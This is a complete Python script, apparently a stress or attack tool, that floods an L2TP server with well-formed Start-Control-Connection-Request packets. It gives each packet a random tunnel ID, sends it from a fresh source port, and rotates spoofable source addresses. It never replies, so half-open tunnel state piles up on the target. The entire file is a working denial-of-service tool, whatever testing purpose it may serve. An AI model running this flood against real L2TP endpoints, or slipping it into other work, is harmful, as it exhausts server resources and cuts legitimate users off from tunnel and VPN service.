#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""sccrq-flood.py HOST PORT --src ADDR[,ADDR...] --count N --name NAME [--seed S]
Send N well-formed SCCRQs (random Assigned Tunnel IDs, Host Name NAME) to
HOST:PORT, each from a fresh socket (a new source port every time), the
source addresses taken in turn from --src. Never answers anything.
Prints the number sent."""
import argparse
import random
import socket
import struct


def avp(t, value, m=True):
    return struct.pack("!HHH", (0x8000 if m else 0) | (6 + len(value)), 0, t) + value


def sccrq(tid, name):
    body = (avp(0, struct.pack("!H", 1)) + avp(2, b"\x01\x00") + avp(3, struct.pack("!I", 3)) +
            avp(7, name.encode()) + avp(9, struct.pack("!H", tid)) + avp(10, struct.pack("!H", 4)))
    return struct.pack("!HHHHHH", 0xC802, 12 + len(body), 0, 0, 0, 0) + body


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--src", required=True)
    ap.add_argument("--count", type=int, default=1000)
    ap.add_argument("--name", default="intruder")
    ap.add_argument("--seed", type=int, default=1)
    o = ap.parse_args()
    rnd = random.Random(o.seed)
    srcs = o.src.split(",")
    sent = 0
    for i in range(o.count):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            s.bind((srcs[i % len(srcs)], 0))
            s.sendto(sccrq(rnd.randrange(1, 65536), o.name), (o.host, o.port))
            sent += 1
        except OSError:
            pass
        finally:
            s.close()
    print(sent)


if __name__ == "__main__":
    main()
